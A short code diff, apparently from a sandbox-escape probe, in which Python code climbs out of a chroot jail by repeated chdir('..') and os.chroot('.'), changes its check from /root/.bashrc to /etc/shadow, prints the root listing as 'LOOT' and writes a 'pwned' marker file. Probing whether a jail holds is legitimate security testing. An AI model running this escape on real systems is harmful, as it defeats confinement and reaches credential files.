@@ -219,7 +219,7 @@ try:
     for _ in range(64):
         os.chdir("..")
     os.chroot(".")
-    if os.path.exists("/root/.bashrc") or os.path.exists("/home") and os.listdir("/home"):
+    if os.path.exists("/etc/shadow") or os.path.exists("/home") and os.listdir("/home"):
         print("LOOT", os.listdir("/"))
     open("/fxcourse-pwned-chroot", "w").write("x")
 except OSError as error:
